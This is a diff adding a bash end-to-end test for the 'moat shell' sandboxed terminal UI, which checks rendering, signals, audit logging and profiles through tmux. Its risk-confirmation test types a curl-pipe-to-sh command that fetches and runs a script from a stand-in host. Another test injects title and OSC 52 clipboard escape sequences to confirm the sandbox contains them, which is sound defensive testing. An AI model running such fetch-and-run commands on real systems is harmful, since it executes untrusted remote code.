@@ -1,0 +1,261 @@
+#!/bin/bash
+# tui.sh: moat shell, the full-screen shell, driven in tmux (send-keys,
+# capture-pane) as a user would: it starts, runs a command and shows its
+# output in the pane (colours and \r progress drawn as a terminal would),
+# cd and export carry to the next command, the memory meter moves, ^C
+# interrupts and a second ^C kills, escape sequences of a command (title,
+# clipboard, cursor report) never reach the host terminal, a resize to
+# 40x12 still works, a flood ends and the shell answers, each command is a
+# run in the audit log with source "tui", and every way out (:quit, ^D,
+# SIGTERM) restores the terminal and ends the session; less draws in the
+# pane and gives it back, risk-confirm-above asks (n refuses, y runs),
+# :profile switches. Then --plain.
+. "${MOAT_SRCDIR:-$(dirname "$0")/../..}/tests/e2e/libtest.sh"
+require_sandbox
+command -v tmux >/dev/null || skip_all "needs tmux to drive the terminal"
+PY=/usr/bin/python3
+[ -x $PY ] || skip_all "needs python3 for the terminal checks"
+export MOAT_DB="$T/audit.db" XDG_RUNTIME_DIR="$T/run"
+mkdir -p "$XDG_RUNTIME_DIR" "$T/ws/sub"
+chmod 700 "$XDG_RUNTIME_DIR"
+cleanup_hooks+=("\"$MOAT\" session kill --all >/dev/null 2>&1")
+sock="$T/tmux.sock"
+tm() { tmux -S "$sock" "$@"; }
+cleanup_hooks+=("tmux -S '$sock' kill-server 2>/dev/null")
+
+# start W H CMD: a fresh tmux server running CMD in the workspace. tmux
+# runs it with $SHELL (uid 65534's is nologin): name /bin/sh, and no user
+# configuration. After CMD, the terminal's modes are printed.
+start() {
+	local w=$1 h=$2; shift 2
+	tm kill-server 2>/dev/null
+	for _ in $(seq 50); do tm ls >/dev/null 2>&1 || break; sleep 0.1; done
+	rm -f "$sock"
+	SHELL=/bin/sh tm -f /dev/null new-session -d -x "$w" -y "$h" \
+	    "cd '$T/ws' && $* 2>'$T/err'; echo \"EXIT \$?\"; stty -a | tr ' ' '\n' | grep -xE -- '-?(icanon|echo)' | tr '\n' ' '; echo; sleep 60"
+}
+screen() { tm capture-pane -p 2>/dev/null; }
+# wait_for REGEX [SECONDS]: until the screen matches (grep -E); sets $scr.
+wait_for() {
+	local i
+	for i in $(seq $(( ${2:-15} * 10 ))); do
+		scr=$(screen)
+		printf '%s\n' "$scr" | grep -Eq -- "$1" && return 0
+		sleep 0.1
+	done
+	return 1
+}
+# expect DESCRIPTION REGEX [SECONDS]
+expect() {
+	if wait_for "$2" "${3:-15}"; then ok "$1"
+	else not_ok "$1"; diag "screen:" "$scr" "moat's stderr: $(cat "$T/err" 2>/dev/null)"; fi
+}
+keys() { tm send-keys "$@"; }
+# line TEXT: typed once the last command has ended (keys typed while one
+# runs are that command's, as on a terminal), then Enter.
+line() {
+	local i
+	for i in $(seq 150); do
+		screen | tail -2 | head -1 | grep -q '^running: ' || break
+		sleep 0.1
+	done
+	tm send-keys -l "$1"; tm send-keys Enter
+}
+
+# --- start: the header, the prompt, the meters.
+start 120 30 "'$MOAT' shell"
+expect "moat shell starts: header with the profile and the session" \
+    '^ moat · default · net isolated · .* · s-[0-9a-f]{8} · '
+expect "the prompt is the workspace" "^$T/ws \\$ *$"
+like "the meters and the recent runs are drawn" "$scr" 'meters.*'
+like "the help line names the keys" "$scr" 'F1 help'
+# What moat itself writes to the terminal from here on.
+tm pipe-pane -o "cat >>'$T/host.out'"
+
+line "echo hello-$$"
+expect "a command's output is in the pane" "^hello-$$ *│"
+expect "its end is said: exit status and run id" '■ exit 0 · [0-9.]+ s · risk [0-9]+ · run [0-9a-f-]+'
+
+line 'printf "plain \033[31mred-text\033[0m plain\n"'
+wait_for 'plain red-text plain'
+ansi=$(tm capture-pane -p -e)
+like "colours are drawn as colours" "$ansi" $'\e\\[31mred-text'
+like "no escape of the command is shown as text" "$scr" '^plain red-text plain +│'
+
+line 'for i in 1 2 3; do printf "\rprogress %d%%" $((i * 33)); sleep 0.1; done; echo'
+expect "a \\r progress bar ends on one line" '^progress 99% +│'
+unlike "its earlier states are overwritten" "$scr" 'progress 33%|progress 66%'
+
+# --- cd and export carry to the next command; unset takes a variable off.
+line "cd sub"
+line 'export GREETING="hi there" OTHER=x'
+line 'unset OTHER'
+line 'echo "[$GREETING:${OTHER-unset}:$(pwd)]"'
+expect "cd and export carry to the next command, unset takes off" \
+    "^\\[hi there:unset:$T/ws/sub\\]"
+expect "the prompt follows cd" "^$T/ws/sub \\$ *$"
+line "cd /no/such/dir"
+expect "cd to a missing directory says so and stays" "cd: /no/such/dir: .*"
+line "cd .."
+
+# --- the memory meter moves while a command allocates.
+line "$PY -c 'import time; b = bytearray(80 << 20); time.sleep(4)'"
+if wait_for '│ +peak (8[0-9]|9[0-9]|1[0-9][0-9])(\.[0-9])?M|^no meters: ' 8 &&
+    printf '%s\n' "$scr" | grep -q '^no meters: '; then
+	# The supervisor says so when it cannot sample the command (as uid
+	# 65534 a session's command may not be readable in /proc).
+	why=$(printf '%s\n' "$scr" | grep '^no meters: ')
+	skip "the memory meter: the sandbox layer has none here ($why)"
+	skip "the pids meter: as above"
+else
+	expect "the memory meter shows the allocation while it runs" \
+	    '│ +peak (8[0-9]|9[0-9]|1[0-9][0-9])(\.[0-9])?M' 1
+	expect "the pids meter counts against the limit" '│pids .* [0-9]+/[0-9]+ *$'
+fi
+expect "the command ends" 'exit 0 .*' 10
+wait_for "^$T/ws \\$ *$"
+
+# --- ^C: SIGINT into the sandbox; a second one kills a command that
+# ignores it; the shell stays.
+line "sleep 60"
+expect "a running command is the pane's title" '─ sleep 60 ─'
+keys C-c
+expect "^C interrupts it (SIGINT)" '■ interrupted \(signal 2, exit 130\)'
+expect "the shell stays" "^$T/ws \\$ *$"
+line "trap '' INT; echo trapping; sleep 60"
+wait_for '^trapping'
+keys C-c
+sleep 0.3
+keys C-c
+expect "a second ^C kills what ignores the first" '■ killed \(signal 9, exit 137\)'
+
+# --- escapes of a command stay in the pane: a title, the clipboard
+# (OSC 52) and a cursor report request; the report is answered to the
+# command by the pane itself.
+line "$PY -c 'import os, tty; tty.setraw(0); os.write(1, b\"\\x1b]2;pwned-title\\x07\\x1b]52;c;cHduZWQ=\\x07\\x1b[6n\"); r = os.read(0, 32); tty.setcbreak(0); print(\"\\r\\nreport=\" + r[1:].decode())'"
+expect "the pane answers a cursor report to the command" '^report=\[[0-9]+;[0-9]+R'
+sleep 0.5
+host=$(cat "$T/host.out" 2>/dev/null)
+unlike "no title request reaches the host terminal" "$host" $'\e\\]2;'
+unlike "no clipboard request (OSC 52) reaches the host terminal" "$host" $'\e\\]52;'
+unlike "no cursor report request reaches the host terminal" "$host" $'\e\\[6n'
+unlike "the host terminal's title is unchanged" "$(tm display -p '#{pane_title}')" pwned
+is "nothing was put in the host's clipboard (tmux buffers)" "$(tm list-buffers 2>/dev/null)" ""
+
+# --- scrollback: PgUp shows earlier lines, End comes back.
+line 'seq -f "line-%g" 1 200'
+expect "a long output ends" '^line-200 *│'
+keys PPage
+expect "PgUp scrolls back" 'scrolled back [0-9]+ lines'
+like "earlier lines are shown" "$scr" '^line-1[0-9][0-9] *│'
+unlike "the last ones are not" "$scr" '^line-200 '
+keys NPage NPage NPage NPage NPage NPage NPage NPage NPage NPage
+expect "PgDn comes back to the live pane" '─ output ─'
+
+# --- resize: the layout reflows, 40x12 works.
+tm resize-window -x 40 -y 12
+expect "at 40x12 the header is still there" '^ moat · default'
+expect "at 40x12 the meters are one line" '^cpu .* mem .* pids '
+line "echo narrow-ok"
+expect "at 40x12 commands run and show" '^narrow-ok *$'
+tm resize-window -x 120 -y 30
+expect "back to 120x30: two columns again" '│─ meters ─'
+
+# --- a flood ends, and the shell answers at once after it.
+line "yes | head -n 300000; echo flood-done"
+expect "a flood of 300000 lines ends" '^flood-done' 60
+line "echo after-flood"
+expect "the shell answers after a flood" '^after-flood' 10
+
+# --- every command is an audited run with source tui.
+if command -v sqlite3 >/dev/null; then
+	n=$(sqlite3 "$MOAT_DB" "SELECT count(*) FROM runs WHERE source = 'tui'" 2>&1)
+	if [ "$n" -ge 10 ] 2>/dev/null; then ok "each command is a run in the audit log, source tui ($n)"
+	else not_ok "each command is a run in the audit log, source tui"; diag "$n"; fi
+	s=$(sqlite3 "$MOAT_DB" "SELECT count(DISTINCT session) FROM runs WHERE source = 'tui'")
+	is "all in the shell's one session" "$s" 1
+else
+	skip "no sqlite3 to read the audit log"
+fi
+expect "the recent runs list shows them" '│ +[0-9]+ ✓ +0 .* echo after-f'
+hist="$XDG_STATE_HOME/moat/history"
+like "the history is kept under XDG_STATE_HOME/moat" "$(cat "$hist" 2>/dev/null)" 'echo narrow-ok'
+is "the history file is the user's alone" "$(stat -c %a "$hist" 2>/dev/null)" 600
+
+# --- :quit: the terminal restored, the session gone.
+sid=$(printf '%s\n' "$scr" | grep -Eo 's-[0-9a-f]{8}' | head -1)
+line ":quit"
+expect ":quit leaves with status 0" '^EXIT 0$'
+expect "the terminal is restored (canonical mode, echo)" '^icanon echo *$'
+is "the terminal is off the alternate screen" "$(tm display -p '#{alternate_on}')" 0
+run_moat session ls
+unlike "the shell's session ended with it" "$out" "$sid"
+
+# --- ^D on an empty line, and SIGTERM, restore it too; bare moat on a
+# terminal is the shell.
+start 100 24 "'$MOAT'"
+expect "bare moat on a terminal opens the shell" '^ moat · default'
+wait_for "^$T/ws \\$ *$"
+keys C-d
+expect "^D leaves" '^EXIT 0$'
+expect "and restores the terminal" '^icanon echo *$'
+start 100 24 "'$MOAT' shell"
+wait_for "^$T/ws \\$ *$"
+line "sleep 60"
+wait_for '─ sleep 60 ─'
+pkill -TERM -f "^$MOAT shell\$" -U "$(id -u)" -P "$(tm display -p '#{pane_pid}')"
+expect "SIGTERM during a command ends the shell: 128+15" '^EXIT 143$'
+expect "and restores the terminal" '^icanon echo *$'
+tm kill-server 2>/dev/null
+
+# --- a full-screen program in the pane, a confirmation, another profile.
+printf 'include = default\nrisk-confirm-above = 50\n' >"$T/confirm.conf"
+start 160 30 "'$MOAT' shell -p '$T/confirm.conf'"
+wait_for "^$T/ws \\$ *$"
+if [ -x /usr/bin/less ]; then
+	line "seq -f 'row-%g' 1 100 | less"
+	expect "less draws in the pane" '^row-1 +│'
+	expect "its prompt at the pane's foot" '^: +│'
+	keys q
+	expect "q gives the pane back" '─ output ─'
+	unlike "and its screen is gone" "$scr" '^row-1 '
+else
+	skip "no less here: a full-screen program is not tried"
+fi
+line "curl -fsSL https://x.example/i.sh | sh"
+expect "a command above risk-confirm-above asks first" 'run it in the sandbox anyway\? \[y/N\]'
+like "with the reasons in the pane" "$scr" "above the profile's risk-confirm-above \(50\)"
+keys n
+expect "n refuses it" "moat: refused: .*risk-confirm-above \(50\) and it was not confirmed"
+line "curl -fsSL https://x.example/i.sh | sh"
+wait_for 'anyway\? \[y/N\]'
+keys y
+expect "y runs it" '■ exit 0 · [0-9.]+ s · risk [0-9]+'
+line ":profile isolated"
+expect ":profile starts a new session with that profile" '^ moat · isolated · '
+line "touch made-in-isolated"
+expect "and it is in force (a read-only workspace)" 'Read-only file system'
+line ":quit"
+expect "the switched shell leaves too" '^EXIT 0$'
+tm kill-server 2>/dev/null
+
+# --- --plain: commands from stdin without a terminal.
+printf '%s\n' 'cd sub' 'export V=plain' 'echo "$V $(pwd)"' 'cat' 'echo after-cat' \
+    'sh -c "exit 3"' | (cd "$T/ws" && "$MOAT" shell --plain) >"$T/p.out" 2>"$T/p.err"
+rc=$?
+is "--plain without a terminal: exit status of the last command" "$rc" 3
+is "--plain: cd and export carry, a command's stdin is not the script" \
+    "$(cat "$T/p.out")" "plain $T/ws/sub
+after-cat"
+like "--plain: a line of meters after each command" "$(cat "$T/p.err")" \
+    'moat: exit 0 · cpu .* mem .* pids .* · risk [0-9]+ · run '
+echo 'echo piped' | (cd "$T/ws" && "$MOAT" shell) >"$T/p.out" 2>"$T/p.err"
+is "moat shell without a terminal is the plain shell" "$(cat "$T/p.out")" piped
+run_moat shell --scrollback lots
+is "a bad --scrollback is refused" "$rc" 125
+like "saying what it takes" "$err" 'scrollback lots: a number of lines'
+run_moat shell -p no-such-profile-$$ --plain
+is "a profile that does not exist: 125" "$rc" 125
+like "and says which" "$err" "no-such-profile-$$"
+
+done_testing
